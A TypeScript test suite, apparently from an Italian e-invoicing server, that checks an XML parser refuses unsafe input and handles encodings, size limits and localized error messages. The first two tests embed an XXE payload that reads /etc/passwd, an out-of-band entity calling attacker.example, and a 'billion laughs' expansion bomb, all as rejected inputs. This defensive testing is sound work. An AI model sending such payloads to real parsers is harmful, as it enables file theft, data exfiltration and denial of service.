import { expect } from 'chai';
import { t } from '../../../server/i18n/i18n.js';
import { AppError } from '../../../server/errors/app-error.js';
import { MAX_XML_BYTES, parseXml } from '../../../server/domain/einvoices/parse-xml.js';

function refusal(bytes: Uint8Array, max?: number): AppError {
  try {
    parseXml(bytes, max);
  } catch (err) {
    expect(err).to.be.instanceOf(AppError);
    return err as AppError;
  }
  throw new Error('expected a refusal');
}

describe('e-invoices: safe XML parsing', () => {
  it('refuses an external entity (XXE) before parsing, naming where the DOCTYPE is', () => {
    const xxe = `<?xml version="1.0"?>\n<!DOCTYPE FatturaElettronica [ <!ENTITY xxe SYSTEM "file:///etc/passwd"> ]>\n<FatturaElettronica>&xxe;</FatturaElettronica>`;
    const err = refusal(Buffer.from(xxe));
    expect(err.code).to.equal('bad_request');
    expect(err.messageKey).to.equal('einvoices.xml.doctype');
    expect(err.params).to.deep.equal({ line: 2, column: 1 });
    // Also a parameter entity pointing out, and a lower-case spelling.
    const oob = `<?xml version="1.0"?><!doctype a [<!ENTITY % ext SYSTEM "http://attacker.example/x.dtd"> %ext;]><a/>`;
    expect(refusal(Buffer.from(oob)).messageKey).to.equal('einvoices.xml.doctype');
  });

  it('refuses entity expansion ("billion laughs") at once, without expanding anything', () => {
    const lol = [
      '<?xml version="1.0"?>',
      '<!DOCTYPE lolz [',
      ' <!ENTITY lol "lol">',
      ...Array.from({ length: 9 }, (_, i) => ` <!ENTITY lol${i + 1} "${`&lol${i || ''};`.repeat(10)}">`),
      ']>',
      '<lolz>&lol9;</lolz>',
    ].join('\n');
    const started = performance.now();
    expect(refusal(Buffer.from(lol)).messageKey).to.equal('einvoices.xml.doctype');
    expect(performance.now() - started).to.be.below(100);
  });

  it('refuses an undeclared entity reference as malformed, with its line and column', () => {
    const err = refusal(Buffer.from('<a>\n  <b>&foo;</b></a>'));
    expect(err.messageKey).to.equal('einvoices.xml.not_well_formed');
    expect(err.params.line).to.equal(2);
    const mismatch = refusal(Buffer.from('<a>\n<b></a>'));
    expect(mismatch.messageKey).to.equal('einvoices.xml.not_well_formed');
    expect(mismatch.params).to.include({ line: 2 });
    expect(refusal(Buffer.from('hello')).messageKey).to.equal('einvoices.xml.not_well_formed');
  });

  it("tells what is broken in the reader's language, never in the parser's English", () => {
    const cases: Array<[string, Record<string, unknown>, string]> = [
      ['<a>\n<b></a>', { problem: 'tag_mismatch', open: 'b', close: 'a' }, "l'elemento <b> è chiuso da </a>"],
      ['<a>&foo;</a>', { problem: 'entity_unknown', entity: 'foo' }, "l'entità &foo; non è definita"],
      ['<a x="1" x="2"/>', { problem: 'attribute_twice', attribute: 'x' }, 'compare due volte'],
      ['<a x="1></a>', { problem: 'attribute_unclosed' }, 'virgolette di chiusura'],
      ['<a', { problem: 'truncated' }, 'troncato'],
      ['hello', { problem: 'no_root' }, 'non contiene alcun elemento XML'],
    ];
    for (const [xml, params, italian] of cases) {
      const err = refusal(Buffer.from(xml));
      expect(err.params, xml).to.include(params);
      const text = t('it', err.messageKey, err.params);
      expect(text, xml).to.include(italian);
      expect(text, xml).to.match(/^Il file non è XML ben formato \(riga \d+, colonna \d+\): /);
      expect(t('da', err.messageKey, err.params), xml).not.to.match(
        /mismatch|not found|redefined|no end|unexpected/i,
      );
    }
  });

  it('reads windows-1252 and ISO-8859-1 as declared ("€" and "à")', () => {
    const text = 'Prestazione di trasporto: 100 € già pagati, città Forlì';
    const euro = Buffer.from([0x80]); // € is 0x80 in windows-1252
    const body = Buffer.from(text.replace('€', '\u0000'), 'latin1');
    const bytes1252 = Buffer.concat([
      Buffer.from('<?xml version="1.0" encoding="windows-1252"?>\n<Descrizione>'),
      Buffer.concat([body.subarray(0, body.indexOf(0)), euro, body.subarray(body.indexOf(0) + 1)]),
      Buffer.from('</Descrizione>'),
    ]);
    const { document, encoding } = parseXml(bytes1252);
    expect(encoding).to.equal('windows-1252');
    expect(document.documentElement.textContent).to.equal(text);
    const latin1 = Buffer.concat([
      Buffer.from("<?xml version='1.0' encoding='ISO-8859-1'?><Descrizione>"),
      Buffer.from('città', 'latin1'),
      Buffer.from('</Descrizione>'),
    ]);
    expect(parseXml(latin1).document.documentElement.textContent).to.equal('città');
  });

  it('reads UTF-8 (with or without a byte order mark) and UTF-16 with a byte order mark', () => {
    const xml = '<?xml version="1.0" encoding="UTF-16"?><Descrizione>città €</Descrizione>';
    const le = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(xml, 'utf16le')]);
    const be = Buffer.from(le);
    be.swap16();
    for (const bytes of [le, be])
      expect(parseXml(bytes).document.documentElement.textContent).to.equal('città €');
    const utf8 = '<Descrizione>città €</Descrizione>';
    expect(parseXml(Buffer.from(`\ufeff${utf8}`)).document.documentElement.textContent).to.equal('città €');
    expect(parseXml(Buffer.from(utf8)).encoding).to.equal('utf-8');
  });

  it('refuses bytes that are not valid in the declared encoding, and unknown encodings', () => {
    const bad = Buffer.concat([
      Buffer.from('<?xml version="1.0" encoding="UTF-8"?><a>'),
      Buffer.from([0xe0, 0x41]),
      Buffer.from('</a>'),
    ]);
    expect(refusal(bad).messageKey).to.equal('einvoices.xml.encoding_invalid');
    expect(refusal(Buffer.from('<?xml version="1.0" encoding="x-klingon"?><a/>')).messageKey).to.equal(
      'einvoices.xml.encoding_unknown',
    );
  });

  it('refuses a file over the size limit (10 MB) before decoding it', () => {
    expect(MAX_XML_BYTES).to.equal(10 * 1024 * 1024);
    const big = Buffer.alloc(MAX_XML_BYTES + 1, 0x20);
    const err = refusal(big);
    expect(err.code).to.equal('payload_too_large');
    expect(err.messageKey).to.equal('einvoices.xml.too_large');
    expect(err.params).to.deep.equal({ size: MAX_XML_BYTES + 1, max: MAX_XML_BYTES });
  });

  it('gives a namespace-aware DOM with line and column on elements', () => {
    const xml =
      '<?xml version="1.0"?>\n<p:FatturaElettronica xmlns:p="http://ivaservizi.agenziaentrate.gov.it/docs/xsd/fatture/v1.2">\n  <FatturaElettronicaHeader/>\n</p:FatturaElettronica>';
    const { document } = parseXml(Buffer.from(xml));
    expect(document.documentElement.localName).to.equal('FatturaElettronica');
    expect(document.documentElement.namespaceURI).to.equal(
      'http://ivaservizi.agenziaentrate.gov.it/docs/xsd/fatture/v1.2',
    );
    const header = document.getElementsByTagName('FatturaElettronicaHeader')[0] as unknown as {
      lineNumber: number;
      columnNumber: number;
    };
    expect([header.lineNumber, header.columnNumber]).to.deep.equal([3, 3]);
  });
});
